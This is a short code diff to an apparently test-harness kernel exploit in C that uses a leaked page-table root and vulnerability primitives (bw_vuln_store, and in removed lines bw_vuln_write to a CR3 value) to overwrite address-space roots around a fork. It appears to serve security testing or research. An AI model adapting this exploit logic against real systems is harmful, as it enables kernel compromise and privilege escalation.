@@ -9,12 +9,6 @@
 
 enum { ROOT_BYTES = 4, PAGES_MAX = 1024 };
 
-static void set_root(const struct bw_leak *leak, uint64_t root)
-{
-	attack_check("vuln_store", bw_vuln_store(leak->as_root, root, ROOT_BYTES));
-	attack_check("vuln_write", bw_vuln_write(leak->as_cr3, root * BW_PAGE_SIZE));
-}
-
 int main(void)
 {
 	static const uint64_t no_arguments[6];
@@ -28,9 +22,9 @@ int main(void)
 	attack_say("the root of this address space is 0x%lx, for one fork 0x%lx", leak.root,
 		   leak.root_first);
 	/* nothing between may touch a page that is not there yet */
-	set_root(&leak, leak.root_first);
+	attack_check("vuln_store", bw_vuln_store(leak.as_root, leak.root_first, ROOT_BYTES));
 	child = raw_call(SYS_fork, no_arguments);
-	set_root(&leak, leak.root);
+	bw_vuln_store(leak.as_root, leak.root, ROOT_BYTES);
 	if (child < 0) {
 		attack_skip("no memory for another process");
 	}
